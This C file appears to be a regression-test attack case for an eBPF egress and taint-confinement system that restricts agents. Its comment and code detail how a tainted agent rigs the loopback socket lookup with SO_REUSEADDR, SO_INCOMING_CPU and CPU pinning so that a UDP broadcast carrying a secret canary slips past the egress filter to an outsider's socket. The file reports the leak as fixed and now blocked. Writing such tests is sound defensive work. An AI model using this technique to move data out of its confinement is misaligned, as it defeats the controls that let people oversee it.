// SPDX-License-Identifier: (LGPL-2.1 OR BSD-2-Clause)
/* udp_broadcast_self_peer - the canary itself, sent by the tainted agent as a UDP BROADCAST on
 * lo (127.255.255.255), which cgroup_skb/egress passes as traffic "between processes of the same
 * agent" while the kernel delivers it to every socket on the port, an outsider's included.
 *
 * egress (sock_egress.bpf.c) names the receiver of a loopback packet by ONE socket lookup
 * (bpf_sk_lookup_udp on the packet's tuple); a broadcast (or multicast) datagram is delivered to
 * ALL matching sockets (__udp4_lib_mcast_deliver). Before the taint the agent makes a decoy S2
 * (SO_REUSEADDR, autobound by a send: port Q) and a sender S1 (SO_BROADCAST, connected to
 * 127.255.255.255:Q). It tells the orchestrator Q (an untainted port number); the outsider
 * binds an SO_REUSEADDR socket to 0.0.0.0:Q (two SO_REUSEADDR UDP sockets may share a port
 * whatever their uids). Both wildcard sockets score the same in the UDP lookup but for its
 * tie-breaker: one point more for a socket whose sk_incoming_cpu is the CPU doing the lookup.
 * The agent sets SO_INCOMING_CPU 0 on S2 (untainted) and pins itself to CPU 0
 * (sched_setaffinity). After its recv the agent send()s the canary on S1: a connected socket
 * runs no cgroup/sendmsg4 hook; egress looks the destination up, finds S2 (the agent's own),
 * "same agent", pass; the kernel delivers the broadcast to S2 and to the outsider. (Tried first
 * and failed: S2 connected to S1's address to score higher - a connect sets S2's bound address
 * to 127.0.0.1, which no longer matches 127.255.255.255; S2 connected and disconnected to be
 * rehashed ahead of the outsider - an autobound socket is not rehashed on disconnect and stays
 * in 127.0.0.1's slot.) The pre-taint sweep keeps the agent's own UDP sockets.
 * Verifier: the outsider's socket (the orchestrator, outside the agent's cgroup) reads it.
 * Result before the fix: host (cgroup backend, 6.18, 2 CPUs): LEAKED in user and root mode, 4 runs of 4 each;
 * positive control verified.
 * Bandwidth: a direct byte channel - the canary itself reaches the outsider - ~64 KiB per
 * datagram, as fast as UDP on lo, from sockets set up once before the taint.
 * Fix idea: the loopback "same agent" shortcut (mnc_loopback_peer) must not apply to a broadcast
 * or multicast destination (127.255.255.255, 224.0.0.0/4, ff00::/8): one lookup names one
 * socket, the kernel delivers to all; and it should not rest on a lookup whose tie-breakers the
 * agent controls (SO_REUSEADDR, SO_INCOMING_CPU). The sweep could also disconnect a tainted
 * agent's connected UDP sockets, so that send() meets the sendmsg4 hook (which refuses
 * 127.255.255.255 as unregistered).
 * Status: blocked: egress uses its loopback socket lookup only for unicast loopback addresses
 * (mnc_inet_loopback_unicast: not 127.255.255.255), so the broadcast is judged as an unregistered
 * destination and dropped; on the lsm backend socket_sendmsg judges the connected peer
 * 127.255.255.255:Q the same way. */
#include <arpa/inet.h>
#include <sched.h>
#include <netinet/in.h>
#include <stdint.h>
#include <sys/socket.h>

#include "atk.h"

static int agent(struct atk_ctx *c)
{
    int one = 1;
    struct sockaddr_in nine = {.sin_family = AF_INET, .sin_port = htons(9), .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
    struct sockaddr_in a = {.sin_family = AF_INET};
    socklen_t al = sizeof(a);
    int s2 = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
    atk_try(c, "socket decoy", s2);
    atk_try(c, "SO_REUSEADDR decoy", setsockopt(s2, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one)));
    /* the lookup's tie-breaker: a socket whose sk_incoming_cpu is the CPU running the lookup
     * scores one more; the decoy says CPU 0 and the agent runs on CPU 0 only */
    int cpu0 = 0;
    cpu_set_t set;
    CPU_ZERO(&set);
    CPU_SET(0, &set);
    atk_try(c, "SO_INCOMING_CPU 0 on the decoy (untainted)",
            setsockopt(s2, SOL_SOCKET, SO_INCOMING_CPU, &cpu0, sizeof(cpu0)));
    atk_try(c, "sched_setaffinity CPU 0", sched_setaffinity(0, sizeof(set), &set));
    atk_try(c, "sendto 127.0.0.1:9 (untainted; autobinds the decoy)",
            sendto(s2, "x", 1, 0, (struct sockaddr *)&nine, sizeof(nine)));
    if (getsockname(s2, (struct sockaddr *)&a, &al) != 0)
        return 0;
    unsigned q = ntohs(a.sin_port);
    int s1 = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
    atk_try(c, "SO_BROADCAST", setsockopt(s1, SOL_SOCKET, SO_BROADCAST, &one, sizeof(one)));
    struct sockaddr_in bc = {
        .sin_family = AF_INET, .sin_port = htons((uint16_t)q), .sin_addr.s_addr = htonl(0x7fffffff)};
    atk_try(c, "connect 127.255.255.255:Q (untainted)", connect(s1, (struct sockaddr *)&bc, sizeof(bc)));
    al = sizeof(a);
    if (getsockname(s1, (struct sockaddr *)&a, &al) != 0)
        return 0;
    char tag[32];
    snprintf(tag, sizeof(tag), "q%u", q);
    atk_sync(c, tag); /* the outsider binds 0.0.0.0:Q */
    atk_recv(c);
    atk_try(c, "send the canary on the connected broadcast socket (tainted)",
            send(s1, c->secret, strlen(c->secret), 0));
    atk_sync(c, "sent");
    return 0;
}

static void on_sync(struct atk_ctx *c, const char *tag)
{
    if (tag[0] == 'q') {
        int o = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0), one = 1;
        struct sockaddr_in a = {.sin_family = AF_INET,
                                .sin_port = htons((uint16_t)strtoul(tag + 1, NULL, 10)),
                                .sin_addr.s_addr = htonl(INADDR_ANY)};
        if (o < 0 || setsockopt(o, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one)) != 0 ||
            bind(o, (struct sockaddr *)&a, sizeof(a)) != 0) {
            fprintf(stderr, "udp_broadcast_self_peer: outsider bind: %s\n", strerror(errno));
            if (o >= 0)
                close(o);
            return;
        }
        c->fdslot[0] = o;
        c->slot[0] = 1;
        return;
    }
    if (strcmp(tag, "sent") != 0 || c->slot[0] != 1)
        return;
    usleep(50000);
    char buf[2048];
    ssize_t r;
    while ((r = recv(c->fdslot[0], buf, sizeof(buf) - 1, MSG_DONTWAIT)) > 0) {
        buf[r] = 0;
        if (atk_buf_has(buf, (size_t)r, c->canary)) {
            atk_evidence(c, "an outsider's UDP socket on 0.0.0.0:Q received the canary: the agent's broadcast to "
                            "127.255.255.255:Q, passed by cgroup_skb/egress as sent to the agent's own decoy socket");
            break;
        }
    }
}

static void cleanup(struct atk_ctx *c)
{
    if (c->slot[0] == 1)
        close(c->fdslot[0]);
}

static const struct atk A = {"udp_broadcast_self_peer",
                             "UDP broadcast on lo whose egress lookup names the agent's own decoy socket",
                             ATK_NO_RECV,
                             NULL,
                             agent,
                             on_sync,
                             NULL,
                             cleanup};
ATK_MAIN(A)
